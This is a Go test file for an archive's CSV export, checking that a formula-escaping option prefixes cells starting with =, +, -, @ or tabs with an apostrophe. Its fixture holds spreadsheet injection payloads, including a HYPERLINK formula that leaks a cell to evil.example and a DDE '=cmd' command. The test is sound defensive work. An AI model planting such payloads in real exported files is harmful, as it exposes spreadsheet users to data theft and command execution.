package archive

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/annals/annals/extract"
)

// TestExportEncoder_CSVSafe writes a record whose cells start formulas:
// with CSVSafe each gets an apostrophe, and only those; without it every
// cell is the archived text.
func TestExportEncoder_CSVSafe(t *testing.T) {
	r := ExportRecord{
		URL: "http://tl.example.cn/1.html", Version: 1, State: StateLive,
		Title:     `=HYPERLINK("http://evil.example/?"&A1,"点击")`,
		Kicker:    "+86 475 8888888",
		Subtitle:  "-2+3",
		Source:    "@SUM(1,2)",
		Body:      "\t缩进的段落\n\n人大代表 = 代表",
		Language:  "zh",
		Bylines:   []extract.Byline{{Name: "=cmd|' /C calc'!A0", Role: extract.RoleReporter}},
		Published: "2021-09-28", ContentSHA256: "ab", CaptureID: 7,
	}
	encode := func(o ExportOptions) map[string]string {
		t.Helper()
		var b bytes.Buffer
		enc, err := NewExportEncoderWith(&b, FormatCSV, o)
		if err != nil {
			t.Fatal(err)
		}
		if err := enc.Encode(r); err != nil {
			t.Fatal(err)
		}
		if err := enc.Close(); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%d rows: %v", len(rows), err)
		}
		cells := map[string]string{}
		for i, f := range rows[0] {
			cells[f] = rows[1][i]
		}
		return cells
	}
	plain := encode(ExportOptions{BOM: true})
	for f, want := range map[string]string{"title": r.Title, "kicker": r.Kicker, "subtitle": r.Subtitle, "source": r.Source, "body": r.Body} {
		if plain[f] != want {
			t.Errorf("without CSVSafe, %s = %q, want the archived %q", f, plain[f], want)
		}
	}
	safe := encode(ExportOptions{CSVSafe: true})
	for f, want := range map[string]string{
		"title": "'" + r.Title, "kicker": "'" + r.Kicker, "subtitle": "'" + r.Subtitle, "source": "'" + r.Source,
		"body": "'" + r.Body, "bylines": "'=cmd|' /C calc'!A0 (reporter)",
		"url": r.URL, "published": "2021-09-28", "state": "live", "capture_id": "7", "language": "zh",
	} {
		if safe[f] != want {
			t.Errorf("CSVSafe: %s = %q, want %q", f, safe[f], want)
		}
	}
}

func TestFormulaSafe(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"1-2": "1-2", "a=b": "a=b", " =1": " =1", "＝1": "＝1", "人大": "人大",
	} {
		if got := formulaSafe(in); got != want {
			t.Errorf("formulaSafe(%q) = %q, want %q", in, got, want)
		}
	}
}
